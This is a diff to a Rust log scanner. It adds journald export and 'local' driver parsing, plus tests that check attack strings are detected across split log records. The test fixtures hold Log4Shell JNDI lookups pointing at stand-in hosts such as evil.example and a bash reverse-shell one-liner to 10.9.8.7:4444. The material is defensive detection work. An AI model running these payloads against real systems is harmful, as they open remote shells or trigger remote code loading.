@@ -1,7 +1,9 @@
 //! Streaming a log through the engine: large buffers searched whole, the line around a
 //! candidate found only then, line numbers counted lazily, lines longer than the record
 //! limit cut at fixed offsets (so results never depend on the buffer size), json-file
-//! records decoded only when they are candidates and their 16 KiB parts joined per stream.
+//! records decoded only when they are candidates and their 16 KiB parts joined per stream;
+//! journald export entries (`journalctl -o export`) read field by field, partial messages
+//! joined per container and stream.
 //! Large plain files are cut at newlines and scanned in parallel.
 
 use std::collections::BTreeMap;
@@ -26,6 +28,15 @@ pub enum LogFormat {
     /// CRI (containerd, CRI-O, Kubernetes `/var/log/pods`): `<RFC 3339> <stream> <P|F> <msg>`
     /// per line; `P` lines are parts of one message, joined per stream up to the `F` line.
     Cri,
+    /// systemd journal export format (`journalctl -o export`, what the `journald` log driver
+    /// leaves): `FIELD=value` lines (binary fields as a name line, a little-endian u64 length
+    /// and the bytes), entries separated by an empty line. `MESSAGE` is the record, the
+    /// time `__REALTIME_TIMESTAMP` (µs), the stream `PRIORITY` (3 = stderr, 6 = stdout), and
+    /// `CONTAINER_PARTIAL_MESSAGE=true` parts are joined per `CONTAINER_ID` and stream.
+    Journal,
+    /// The `local` driver's protobuf entries, decoded to CRI lines ([`super::local`]): one
+    /// line per entry, offsets in the decoded text.
+    Local,
 }
 
 impl LogFormat {
@@ -34,6 +45,8 @@ impl LogFormat {
         let h = head.strip_prefix(b"\xef\xbb\xbf").unwrap_or(head);
         if h.starts_with(b"{\"log\":") {
             LogFormat::JsonFile
+        } else if h.starts_with(b"__CURSOR=") || h.starts_with(b"__REALTIME_TIMESTAMP=") {
+            LogFormat::Journal
         } else if split_cri(h.split(|c| *c == b'\n').next().unwrap_or(h)).is_some() {
             LogFormat::Cri
         } else {
@@ -150,6 +163,25 @@ struct Pending {
     time: Option<Timestamp>,
 }
 
+/// The journal entry being read.
+#[derive(Default)]
+struct JournalEntry {
+    /// Line and offset of its first field.
+    start: Option<(u64, u64)>,
+    message: Option<Vec<u8>>,
+    time: Option<Timestamp>,
+    priority: Option<u8>,
+    container: Option<String>,
+    partial: bool,
+    /// A binary field being read: (is MESSAGE, bytes still to read, bytes so far).
+    binary: Option<(bool, u64, Vec<u8>)>,
+    /// A binary field's name line was read; its length comes next.
+    binary_name: Option<bool>,
+}
+
+/// Separates the stream from the container in a pending key (streams never hold it).
+const KEY_SEP: char = '\u{1f}';
+
 struct State<'a> {
     engine: &'a Engine,
     cfg: &'a ScanConfig,
@@ -165,6 +197,7 @@ struct State<'a> {
     /// (line, rule) pairs already reported, for the long line being cut into records.
     last_line: (u64, Vec<usize>),
     pending: BTreeMap<String, Pending>,
+    journal: JournalEntry,
     bad_json: u64,
     first_bad_json: Option<(u64, u64)>,
     long_json: u64,
@@ -193,6 +226,7 @@ pub fn scan_stream<R: Read>(
         out: StreamScan::default(),
         last_line: (0, Vec::new()),
         pending: BTreeMap::new(),
+        journal: JournalEntry::default(),
         bad_json: 0,
         first_bad_json: None,
         long_json: 0,
@@ -251,6 +285,9 @@ impl State<'_> {
             LogFormat::JsonFile => self.json_region(region),
             LogFormat::Cri if self.line_off > 0 => self.text_region(region, max_record),
             LogFormat::Cri => self.cri_region(region),
+            LogFormat::Journal => self.journal_region(region),
+            LogFormat::Local if self.line_off > 0 => self.text_region(region, max_record),
+            LogFormat::Local => self.cri_region(region),
         };
         self.line += newlines;
         self.abs += region.len() as u64;
@@ -313,6 +350,108 @@ impl State<'_> {
             start = end + 1;
         }
         newlines
+    }
+
+    fn journal_region(&mut self, region: &[u8]) -> u64 {
+        let mut start = 0usize;
+        let mut line = self.line;
+        let mut newlines = 0;
+        while start < region.len() {
+            let end = memchr::memchr(b'\n', &region[start..]).map_or(region.len(), |q| start + q);
+            let ends_line = end < region.len();
+            self.journal_line(&region[start..end], ends_line, line, self.abs + start as u64);
+            if ends_line {
+                newlines += 1;
+                line += 1;
+            }
+            start = end + 1;
+        }
+        newlines
+    }
+
+    /// One line of a journal export (or a piece of a binary field's data).
+    fn journal_line(&mut self, raw: &[u8], ends_line: bool, line: u64, offset: u64) {
+        let j = &mut self.journal;
+        if let Some((is_msg, need, mut data)) = j.binary.take() {
+            // Binary data may hold newlines: the line cut is part of the data.
+            let take = (raw.len() as u64).min(need) as usize;
+            data.extend_from_slice(&raw[..take]);
+            let mut left = need - take as u64;
+            if left > 0 && ends_line {
+                data.push(b'\n');
+                left -= 1;
+            }
+            if left > 0 {
+                j.binary = Some((is_msg, left, data));
+            } else if is_msg {
+                j.message = Some(data);
+            }
+            return;
+        }
+        if let Some(is_msg) = j.binary_name.take() {
+            if raw.len() >= 8 {
+                let need = u64::from_le_bytes(raw[..8].try_into().unwrap_or_default());
+                let rest = &raw[8..];
+                j.binary = Some((is_msg, need, Vec::new()));
+                self.journal_line(rest, ends_line, line, offset);
+                return;
+            }
+        }
+        if raw.is_empty() {
+            self.journal_flush();
+            return;
+        }
+        let j = &mut self.journal;
+        j.start.get_or_insert((line, offset));
+        match memchr::memchr(b'=', raw) {
+            Some(eq) => {
+                let (k, v) = (&raw[..eq], &raw[eq + 1..]);
+                let s = || std::str::from_utf8(v).ok();
+                match k {
+                    b"MESSAGE" => j.message = Some(v.to_vec()),
+                    b"__REALTIME_TIMESTAMP" => {
+                        j.time = s().and_then(|t| t.parse::<i64>().ok()).map(|us| {
+                            Timestamp::from_unix(
+                                us.div_euclid(1_000_000),
+                                (us.rem_euclid(1_000_000) * 1000) as u32,
+                            )
+                        })
+                    }
+                    b"PRIORITY" => j.priority = s().and_then(|p| p.parse().ok()),
+                    b"CONTAINER_ID_FULL" => j.container = s().map(String::from),
+                    b"CONTAINER_ID" if j.container.is_none() => j.container = s().map(String::from),
+                    b"CONTAINER_PARTIAL_MESSAGE" => j.partial = v == b"true",
+                    _ => {}
+                }
+            }
+            None => j.binary_name = Some(raw == b"MESSAGE"),
+        }
+    }
+
+    /// The entry read so far is complete: its message joins its container's stream.
+    fn journal_flush(&mut self) {
+        let j = std::mem::take(&mut self.journal);
+        let (Some((line, offset)), Some(msg)) = (j.start, j.message) else { return };
+        let stream = match j.priority {
+            Some(p) if p <= 3 => "stderr",
+            Some(_) => "stdout",
+            None => "",
+        };
+        let key = format!("{stream}{KEY_SEP}{}", j.container.unwrap_or_default());
+        if let Some(mut p) = self.pending.remove(&key) {
+            let room = self.cfg.max_join.saturating_sub(p.text.len());
+            p.text.extend_from_slice(&msg[..msg.len().min(room)]);
+            if j.partial && p.text.len() < self.cfg.max_join {
+                self.pending.insert(key, p);
+            } else {
+                self.message(&p.text, p.line, p.offset, p.time, stream);
+            }
+        } else if j.partial {
+            let text = msg[..msg.len().min(self.cfg.max_join)].to_vec();
+            self.pending.insert(key, Pending { text, line, offset, time: j.time });
+        } else {
+            self.message(&msg, line, offset, j.time, stream);
+        }
     }
 
     fn cri_line(&mut self, raw: &[u8], line: u64, offset: u64) {
@@ -438,8 +577,12 @@ impl State<'_> {
     }
 
     fn finish(mut self) -> StreamScan {
+        if self.format == LogFormat::Journal {
+            self.journal_flush(); // the last entry may lack its empty line
+        }
         let pending = std::mem::take(&mut self.pending);
-        for (stream, p) in pending {
+        for (key, p) in pending {
+            let stream = key.split(KEY_SEP).next().unwrap_or_default().to_string();
             self.message(&p.text, p.line, p.offset, p.time, &stream);
         }
         if self.bad_json > 0 {
@@ -609,5 +752,102 @@ not a cri line ${jndi:ldap://stray.example/x}\n";
         assert_eq!(LogFormat::sniff(b"{\"log\":\"x\"}"), LogFormat::JsonFile);
         assert_eq!(LogFormat::sniff(b"\xef\xbb\xbf{\"log\":"), LogFormat::JsonFile);
         assert_eq!(LogFormat::sniff(b"2026-11-27T14:00:00Z x"), LogFormat::Text);
+    }
+
+    #[test]
+    fn partial_records_never_join_across_streams() {
+        // Half a payload on stderr (a `P` part), the other half on stdout: two streams, no
+        // message holds `${jndi:...}`, so no hit may be made up by joining them.
+        let engine = Engine::builtin().unwrap();
+        let loc = Locator::artifact("0.log");
+        let cfg = ScanConfig::default();
+        let cri = b"2026-11-27T14:00:01.000000000Z stderr P GET /?q=${jn\n\
+2026-11-27T14:00:01.000000001Z stdout F di:ldap://evil.example/a}\n\
+2026-11-27T14:00:01.000000002Z stderr F  tail of the stderr message\n";
+        let scan = scan_stream(&cri[..], LogFormat::Cri, &engine, &cfg, &loc, 0);
+        assert!(scan.hits.iter().all(|h| h.found.jndi.is_none()), "{:?}", scan.hits.len());
+        // The same in json-file: a 16 KiB stderr part without `\n`, then a stdout record.
+        let pad = "x".repeat(PART_SIZE);
+        let json = format!(
+            "{{\"log\":\"{pad}${{jn\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:00Z\"}}\n\
+{{\"log\":\"di:ldap://evil.example/a}}\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:01Z\"}}\n\
+{{\"log\":\"end\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:02Z\"}}\n"
+        );
+        let scan = scan_stream(json.as_bytes(), LogFormat::JsonFile, &engine, &cfg, &loc, 0);
+        assert!(scan.hits.iter().all(|h| h.found.jndi.is_none()));
+        // Joined within its own stream, the payload is found, on the line it starts.
+        let json = format!(
+            "{{\"log\":\"{pad}${{jn\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:00Z\"}}\n\
+{{\"log\":\"GET / 200\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:01Z\"}}\n\
+{{\"log\":\"di:ldap://evil.example/a}}\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:02Z\"}}\n"
+        );
+        let scan = scan_stream(json.as_bytes(), LogFormat::JsonFile, &engine, &cfg, &loc, 0);
+        let hits: Vec<_> = scan
+            .hits
+            .iter()
+            .filter(|h| h.found.jndi.is_some())
+            .map(|h| (h.locator.line, h.stream.clone()))
+            .collect();
+        assert_eq!(hits, [(Some(1), Some("stderr".to_string()))]);
+    }
+
+    #[test]
+    fn journal_export_entries_joined_per_container_and_stream() {
+        // Two containers interleaved; container a's message is cut in two partial entries with
+        // container b's entry between them; a binary MESSAGE field holds a newline.
+        let mut log = Vec::new();
+        let entry = |fields: &[(&str, &str)]| {
+            let mut e = String::new();
+            for (k, v) in fields {
+                e.push_str(&format!("{k}={v}\n"));
+            }
+            e.push('\n');
+            e.into_bytes()
+        };
+        log.extend(entry(&[
+            ("__CURSOR", "s=1"),
+            ("__REALTIME_TIMESTAMP", "1764252000123456"),
+            ("PRIORITY", "6"),
+            ("CONTAINER_ID", "aaaa"),
+            ("CONTAINER_PARTIAL_MESSAGE", "true"),
+            ("MESSAGE", "GET /?q=${jn"),
+        ]));
+        log.extend(entry(&[
+            ("__CURSOR", "s=2"),
+            ("PRIORITY", "6"),
+            ("CONTAINER_ID", "bbbb"),
+            ("MESSAGE", "di:ldap://not.joined/}"),
+        ]));
+        log.extend(entry(&[
+            ("__CURSOR", "s=3"),
+            ("PRIORITY", "6"),
+            ("CONTAINER_ID", "aaaa"),
+            ("MESSAGE", "di:ldap://journal.example/a} HTTP/1.1"),
+        ]));
+        log.extend(b"__CURSOR=s=4\nPRIORITY=3\nCONTAINER_ID=cccc\nMESSAGE\n");
+        let bin = b"line one\nbash -i >& /dev/tcp/10.9.8.7/4444 0>&1";
+        log.extend((bin.len() as u64).to_le_bytes());
+        log.extend(bin);
+        log.extend(b"\n\n");
+        let engine = Engine::builtin().unwrap();
+        let loc = Locator::artifact("journal.export");
+        for buf_size in [100, 1 << 20] {
+            let cfg = ScanConfig { buf_size, max_record: 64, ..Default::default() };
+            let scan = scan_stream(&log[..], LogFormat::Journal, &engine, &cfg, &loc, 0);
+            let jndi: Vec<_> = scan
+                .hits
+                .iter()
+                .filter_map(|h| h.found.jndi.as_ref().map(|j| (h.locator.line, j.host.clone())))
+                .collect();
+            assert_eq!(jndi, [(Some(1), Some("journal.example".to_string()))], "buf {buf_size}");
+            let first = scan.hits.iter().find(|h| h.found.jndi.is_some()).unwrap();
+            assert_eq!(first.time.map(|t| t.to_iso()).as_deref(), Some("2025-11-27T14:00:00.123456000Z"));
+            assert_eq!(first.stream.as_deref(), Some("stdout"));
+            assert!(
+                scan.hits.iter().any(|h| h.stream.as_deref() == Some("stderr") && h.excerpt.contains("/dev/tcp/10.9.8.7")),
+                "binary MESSAGE field, stderr by PRIORITY"
+            );
+        }
+        assert_eq!(LogFormat::sniff(b"__CURSOR=s=1;i=2\n"), LogFormat::Journal);
     }
 }
